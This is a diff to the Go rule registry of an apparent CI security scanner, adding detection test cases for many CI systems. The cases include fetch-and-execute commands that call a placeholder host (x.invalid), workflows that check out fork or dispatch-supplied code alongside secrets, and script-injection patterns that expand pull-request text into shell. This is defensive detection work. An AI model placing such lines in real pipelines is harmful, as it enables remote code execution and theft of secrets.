@@ -159,6 +159,24 @@ var registry = []Rule{
 		{"x.sh", "curl -fsSL \\\n  https://x.invalid/i \\\n  | bash", 3, false},
 		{"x.sh", "S=$(curl -s https://x.invalid/s)\necho ok\necho ok\neval \"$S\"", 4, false},
 		{"x.sh", "curl -sLo /tmp/t https://x.invalid/t\nbash /tmp/t", 2, false},
+		// Every CI system's own script keys are shell, one flow per file:
+		// Cirrus's *_script, AppVeyor's on_finish, Travis's
+		// before_deploy, GitLab's runner hooks, CodeBuild's finally,
+		// sourcehut's named tasks, Cloud Build's args to sh -c.
+		{".cirrus.yml", "task:\n  container:\n    image: rust:latest\n  fetch_script: curl -fsSL -o /tmp/t.sh https://x.invalid/t\n  warm_script: sh /tmp/t.sh", 5, false},
+		{"appveyor.yml", "image: Ubuntu2204\nbuild_script:\n  - make\non_finish:\n  - sh: curl -sLo t.sh https://x.invalid/t\n  - sh: bash t.sh", 6, false},
+		{".travis.yml", "language: go\nbefore_deploy:\n  - wget -q -O /tmp/d https://x.invalid/d\n  - chmod +x /tmp/d && /tmp/d", 4, false},
+		{".gitlab-ci.yml", "test:\n  hooks:\n    pre_get_sources_script:\n      - curl -sSfo /tmp/h https://x.invalid/h\n      - . /tmp/h\n  script:\n    - make test", 5, false},
+		{"buildspec.yml", "version: 0.2\nphases:\n  build:\n    commands:\n      - make\n    finally:\n      - curl -s -o /tmp/f https://x.invalid/f\n      - bash /tmp/f", 8, false},
+		{".builds/debian.yml", "image: debian/stable\nsources:\n  - https://git.sr.ht/~x/y\ntasks:\n  - setup: |\n      curl -fsSL -o /tmp/s https://x.invalid/s\n      bash /tmp/s", 7, false},
+		{"cloudbuild.yaml", "steps:\n  - name: gcr.io/cloud-builders/gcloud\n    entrypoint: bash\n    args: ['-c', 'curl -s -o /tmp/c https://x.invalid/c && bash /tmp/c']", 4, false},
+		// A Buildkite agent's hook, and a script kept beside a pipeline,
+		// are shell scripts.
+		{".buildkite/hooks/pre-command", "#!/bin/bash\nset -euo pipefail\ncurl -fsSL -o /tmp/x.sh https://x.invalid/i\nbash /tmp/x.sh", 4, false},
+		{".circleci/scripts/setup.sh", "#!/bin/sh\nwget -qO /tmp/s https://x.invalid/s\nsh /tmp/s", 3, false},
+		// The same systems building the change: nothing fetched is run.
+		{".builds/debian.yml", "image: debian/stable\npackages:\n  - golang\nsources:\n  - https://git.sr.ht/~x/y\ntasks:\n  - build: |\n      cd y\n      go build ./...\n  - test: cd y && go test ./...", 0, true},
+		{".cirrus.yml", "task:\n  container:\n    image: rust:latest\n  cargo_cache:\n    folder: $CARGO_HOME/registry\n  build_script: cargo build\n  test_script: cargo test", 0, true},
 		{"x.sh", "curl -fsSLo tool.tgz https://x.invalid/tool.tgz", 0, true},
 		// A RUN here-document is the build shell's script, continued lines
 		// and all; one that checks a sum before it unpacks runs nothing.
@@ -615,6 +633,16 @@ var registry = []Rule{
 			{".github/workflows/a.yml", PRTHeadInto("pr", "      - working-directory: pr\n        run: make docs"), 11, false},
 			{".github/workflows/a.yml", PRTHeadInto("pr", "      - run: bash pr/scripts/preview.sh"), 10, false},
 			{".github/workflows/a.yml", PRTHeadInto("pr", "      - run: pip install ./pr"), 10, false},
+			// Code another chose by other events: the repository a dispatch's
+			// payload names, the commit of a check suite a fork's pull
+			// request started; a hunk that does not show the trigger.
+			{".github/workflows/a.yml", "on: repository_dispatch\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          repository: ${{ github.event.client_payload.repository }}\n          ref: ${{ github.event.client_payload.ref }}\n      - run: ./gradlew publish\n        env:\n          SIGNING_KEY: ${{ secrets.SIGNING_KEY }}", 10, false},
+			{".github/workflows/a.yml", "on:\n  check_suite:\n    types: [completed]\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.check_suite.head_sha }}\n      - run: cargo build --release", 11, false},
+			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -6,3 +6,6 @@ jobs:\n     steps:\n       - uses: actions/checkout@v4\n-      - run: pip install .\n+      - run: |\n+          git fetch origin ${{ github.event.client_payload.sha }}\n+          git checkout FETCH_HEAD\n+          pip install .\n", 11, false},
+			// The command a maintainer's comment relays (slash-command
+			// dispatch) checks out a pull request of this repository: the
+			// sender of a dispatch can write to it already.
+			{".github/workflows/a.yml", "on:\n  repository_dispatch:\n    types: [ok-to-test-command]\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: refs/pull/${{ github.event.client_payload.pull_request.number }}/merge\n      - run: make test", 0, true},
 			{".github/workflows/a.yml", PRTHeadInto("pr", "      - uses: ./pr/.github/actions/preview"), 10, false},
 			// The base branch's own tool reading the folder as data.
 			{".github/workflows/a.yml", PRTHeadInto("pr", "      - run: |\n          npm ci\n          python tools/render.py --input ./pr/docs"), 0, true},
@@ -995,6 +1023,28 @@ var registry = []Rule{
 	{"gha-script-injection", KindExecute, High, "expands untrusted pull-request text into a command (script injection)",
 		"a branch name, title or comment is written by whoever opens the pull request, and here it becomes shell or script code run with the job's token and secrets", []Case{
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: echo \"${{ github.event.pull_request.title }}\"", 4, false},
+			// A fork's branch name reaches the check suite and check run
+			// it starts; a dispatch's payload is what its sender chose.
+			{".github/workflows/a.yml", "on: check_suite\njobs:\n  a:\n    steps:\n      - run: ./notify.sh \"${{ github.event.check_suite.head_branch }}\"", 5, false},
+			{".github/workflows/a.yml", "on: check_run\njobs:\n  a:\n    steps:\n      - run: echo '${{ github.event.check_run.output.summary }}' >> report.md", 5, false},
+			{".github/workflows/a.yml", "on: repository_dispatch\njobs:\n  a:\n    steps:\n      - run: ./deploy.sh ${{ github.event.client_payload.environment }}", 5, false},
+			// The base branch is the repository's own.
+			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: git diff origin/${{ github.event.pull_request.base.ref }}", 0, true},
+		}},
+	{"ci-script-injection", KindExecute, High, "a CI system writes pull-request text into a script before the shell reads it (script injection)",
+		"the CI system substitutes a branch name, a title, a commit message or an author's name into the script's text (Azure's $(…) macros, Buildkite's upload-time $VAR, Drone's and Woodpecker's ${…}, Groovy's \"${…}\" in a Jenkins sh step, Pipelines as Code's {{ }}): whoever opens the pull request writes shell code that runs with the pipeline's variables and tokens", []Case{
+			{"azure-pipelines.yml", "trigger: [main]\npr: [main]\nsteps:\n  - script: |\n      if [[ \"$(Build.SourceVersionMessage)\" == *\"[docs]\"* ]]; then make docs; fi", 5, false},
+			{"Jenkinsfile", "pipeline {\n  agent any\n  stages {\n    stage('notify') {\n      steps {\n        sh \"./ci/notify.sh '${env.CHANGE_TITLE}'\"\n      }\n    }\n  }\n}", 6, false},
+			{".buildkite/pipeline.yml", "steps:\n  - label: changelog\n    command: ./ci/changelog.sh \"$BUILDKITE_MESSAGE\"", 3, false},
+			{".woodpecker/build.yml", "steps:\n  build:\n    image: alpine\n    commands:\n      - echo \"${CI_COMMIT_MESSAGE}\" > msg.txt", 5, false},
+			{".drone.yml", "kind: pipeline\nsteps:\n- name: tag\n  image: alpine\n  commands:\n  - ./tag.sh ${DRONE_SOURCE_BRANCH}", 6, false},
+			{".tekton/pr.yaml", "spec:\n  pipelineSpec:\n    tasks:\n      - name: t\n        taskSpec:\n          steps:\n            - name: s\n              image: alpine\n              script: |\n                echo {{ source_branch }}", 10, false},
+			// Escaped, the shell expands the variable as data; in single
+			// quotes Groovy leaves it to the shell; the target branch and
+			// the build's number are the repository's own.
+			{".buildkite/pipeline.yml", "steps:\n  - command: ./ci/changelog.sh \"$$BUILDKITE_MESSAGE\"", 0, true},
+			{"Jenkinsfile", "node {\n  sh './ci/notify.sh \"$CHANGE_TITLE\"'\n  sh \"./ci/notify.sh \\$CHANGE_TITLE\"\n}", 0, true},
+			{"azure-pipelines.yml", "steps:\n  - script: echo $(System.PullRequest.TargetBranch) $(Build.BuildNumber)\n    displayName: $(Build.SourceVersionMessage)", 0, true},
 		}},
 	{"gha-env-injection", KindExecute, High, "writes untrusted pull-request text into GITHUB_ENV or GITHUB_PATH",
 		"every later step of the job runs with what the pull request's author chose as its environment", nil},
@@ -1003,7 +1053,7 @@ var registry = []Rule{
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - env:\n          ALL: ${{ toJSON(secrets) }}", 5, false},
 		}},
 	{"gha-untrusted-checkout", KindCIFile, High, "checks out the pull request's head in a privileged workflow",
-		"on pull_request_target or workflow_run the pull request's own code then runs with the repository's write token and secrets", nil},
+		"on pull_request_target, workflow_run or a check run or suite the pull request's own code then runs with the repository's write token and secrets", nil},
 	{"gha-unsecure-commands", KindExecute, High, "re-enables set-env/add-path workflow commands",
 		"any step's output can then set the environment of the steps after it", nil},
 	{"gha-excessive-permissions", KindCIFile, High, "gives write permissions to a workflow that runs pull-request code",
@@ -1100,14 +1150,14 @@ var registry = []Rule{
 		}},
 	{"gha-pinned-unchecked", KindCIFile, Low, "pins an action to a commit SHA (not checked against the action's repository)",
 		"a SHA from a fork can be addressed through the action's name; offline, vetter could not ask GitHub whether this commit is the action's own", nil},
-	{"gha-privileged-trigger", KindCIFile, Medium, "workflow runs on pull_request_target or workflow_run",
+	{"gha-privileged-trigger", KindCIFile, Medium, "workflow runs on a privileged trigger (pull_request_target, workflow_run, a check run or suite)",
 		"these triggers run with the repository's write token and secrets even for a fork's pull request: what matters is whether a step runs the pull request's code", []Case{
 			{".github/workflows/a.yml", "on: pull_request_target\npermissions:\n  contents: read", 1, false},
 		}},
 	{"gha-secrets-inherit", KindCredential, Medium, "passes every secret to a called workflow (secrets: inherit)",
 		"the called workflow gets every secret of the repository, not the few it needs", nil},
 	{"gha-secret-in-privileged", KindCredential, Medium, "passes a secret to a step of a privileged workflow",
-		"on pull_request_target or workflow_run the secret is available to a job a fork's pull request starts", nil},
+		"on pull_request_target, workflow_run or a check run or suite the secret is available to a job a fork's pull request starts", nil},
 	{"gha-pr-checkout", KindCIFile, Low, "checks out the pull request's head",
 		"normal on pull_request; it would be dangerous under pull_request_target", nil},
 	{"gha-secret-in-run", KindCredential, Medium, "expands a secret inside a command",
